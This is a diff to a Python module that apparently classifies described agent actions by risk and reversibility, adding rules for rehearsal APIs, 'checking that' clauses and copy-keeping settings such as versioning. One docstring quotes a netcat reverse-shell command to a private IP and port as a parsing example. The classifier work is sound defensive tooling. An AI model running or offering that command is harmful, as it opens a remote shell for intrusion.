@@ -445,8 +445,8 @@ _VERB_MODIFIERS = words("bulk mass batch force")
 
 def split_hyphenated(tokens: list[Tok]) -> list[Tok]:
     """`force-push`, `tear-down`, `bulk-deleting`: split into words when the parts are a known verb or
-    particle, or a modifier before an inflected verb. A part with digits (`checkout-7f9c`, a pod's
-    generated suffix) makes the whole a name, whatever its first word."""
+    particle, a rehearsal's word, or a modifier before an inflected verb. A part with digits
+    (`checkout-7f9c`, a pod's generated suffix) makes the whole a name, whatever its first word."""
     out: list[Tok] = []
     for t in tokens:
         if (t.kind == "ident" and "-" in t.low and _WORD.match(t.low) and t.low not in GENERIC_WORDS
@@ -455,6 +455,9 @@ def split_hyphenated(tokens: list[Tok]) -> list[Tok]:
             if (
                 parts[0] in VERB_ACT
                 or lemma(parts[0]) in VERB_ACT
+                # `simulate-principal-policy`, `what-if-deployment`: an API named for a rehearsal
+                # rehearses, whatever it rehearses; the words after it are what it is run against
+                or parts[0] in MARKERS.dry_run
                 or (len(parts) == 2 and (lemma(parts[0]), lemma(parts[1])) in PHRASAL_VERBS)
                 # "force-rebuilding", "bulk-deleting": a modifier, then the verb that is the act; a
                 # scope or force word is a modifier in any form ("Bulk-delete every message")
@@ -626,6 +629,25 @@ QUESTION_VERBS = words(
     "consider estimate know learn explore review inspect examine preview list show print display "
     "understand trace diagnose debug read count"
 )
+# Verbs whose "that ..." clause is a claim tested, not an act ("making sure that" or "ensuring that"
+# can bring the act about, so they are not here)
+_CHECKED_THAT = words("check verify confirm test double-check recheck")
+# What a claim says works or runs ("... connects", "... still works"): it is tested by running it
+_RUN_CLAIMS = words("work works working connect connects connecting run runs running fire fires execute "
+                    "executes capture captures capturing")
+
+
+def _tested_by_running(claim: Sequence[Tok]) -> bool:
+    """The claim after "checking that" names a command line (a flag) or says something works or runs
+    ("checking that nc -e /bin/sh 10.0.0.5 4444 connects"): the check is made by running it."""
+    for t in claim:
+        if t.kind == "punct":
+            return False
+        if t.kind == "flag" or t.low in _RUN_CLAIMS:
+            return True
+    return False
+
+
 # "asking the user for confirmation before deleting ...": what follows "before" waits for a human
 ASK_VERBS = words("ask request seek get wait")
 ASKED_FOR = words("user human operator confirmation approval permission go-ahead consent you")
@@ -1123,6 +1145,12 @@ def segment(tokens: list[Tok], after_command: bool = False) -> list[Clause]:
             ):
                 cur.append(tok)
                 close("content")  # "telling the user the token has expired": what is told
+                continue
+            if (w == "that" and cur and cur[-1].kind == "word" and cur[-1].lem in _CHECKED_THAT
+                    and not _tested_by_running(tokens[i + 1:])):
+                # "checking that ~/.aws/config sets the region", "verifying that the cron job deletes old
+                # logs": the claim a check tests, as "checking whether ..." asks it; nothing in it is done
+                close("question")
                 continue
             asked = w in _INTERROGATIVES or tok.lem in _INTERROGATIVES  # "what's filling": a contraction
             if asked and _asks(cur, after_command) and not _experiment(cur, tokens[i:]):
@@ -1631,6 +1659,7 @@ def _frame(tokens: Sequence[Tok]) -> Frame:
             and t.lem in VERB_ACT
             and not (nxt is not None and nxt.low in PROTECTIONS and t.low != t.lem)  # "deletion protection"
             and not _event_of_a_time(tokens, i)
+            and not _held_nominal(tokens, i, verbs)
             and not _compound_noun(tokens, i)
             and not _reduced_relative(tokens, i, verbs)
             and not _made_by_agent(tokens, i)
@@ -2732,6 +2761,13 @@ def _judge_verb(act, verb, frame, ctx, objs, kinds, named):
         # debugging it, not a record anyone relies on (an audit or access log is a control: not this); on
         # machines others share ("the HPC login nodes") it is still a change to their service
         return L.REVERSIBLE, "changes only how much a program prints while debugging", "hint.verbosity", False
+    if (act is Act.CHANGE and verb in ENABLING and KEEPING.search(" ".join(frame.order))
+            and not _switched_off(frame) and not frame.public and not ctx.external_dest
+            and all(a is Act.CHANGE for a, _ in frame.verbs)):
+        # "enabling versioning on the prod backup bucket", "turning on point-in-time recovery": every
+        # later overwrite or delete keeps a copy to go back to; nothing present changes or leaves
+        return L.REVERSIBLE, "switches on keeping copies: more can be restored, nothing is lost", \
+            "hint.keeping-on", False
     if act is Act.CHANGE and _view_setting(frame, kinds):
         # "setting the Grafana dashboard filters to env=prod": what the agent is shown changes; env=prod
         # is the value filtered on, not the place an act lands
@@ -4116,6 +4152,12 @@ RECORDING = words(
 )
 
 
+# Settings that keep earlier copies, so what is later overwritten or deleted can be brought back
+# (an object lock is not one: in compliance mode nobody can remove it, or what it holds, until it lapses)
+KEEPING = re.compile(r"\b(?:versioning|pitr|(?:deletion|termination)[- ]protection"
+                     r"|soft[- ]deletes?)\b")
+
+
 # Code checkers whose rules live in the project's own config: switching one off is an edit to code.
 LINTERS = words(
     "eslint tslint stylelint ruff pylint flake8 rubocop mypy pyright clippy golangci-lint prettier "
@@ -4210,6 +4252,17 @@ def _event_of_a_time(tokens: list[Tok], i: int) -> bool:
     t, before = tokens[i], tokens[i - 1] if i else None
     return (before is not None and t.low == t.lem and t.low not in BACKUP_NOUNS
             and before.low.endswith(("'s", "’s")) and before.low[:-2] in _WHEN_POSSESSIVE)
+def _held_nominal(tokens: list[Tok], i: int, verbs: Sequence[tuple[Act, str]]) -> bool:
+    """A noun made from a verb, after a possessive, where only reads came before ("checking E-2043's
+    termination checklist"): the holder's record is read. After any other verb ("processing E-2043's
+    termination") or none, the noun still names the act that verb carries out."""
+    t, before = tokens[i], tokens[i - 1] if i else None
+    return (before is not None and bool(verbs) and all(a is Act.READ for a, _ in verbs)
+            and t.low in NOMINALS and t.low != t.lem
+            and before.low.endswith(("'s", "’s")) and before.low[:-2] not in _CONTRACTED)
+
+
+_CONTRACTED = words("it that what there here who he she let")  # "it's": "it is", no possessive
 _SNAPSHOT_VERBS = words("snapshotting snapshotted")  # "snapshot" is a verb only where a verb goes
 _BEFORE_VERB = words("then and to i'll will please first now")
 
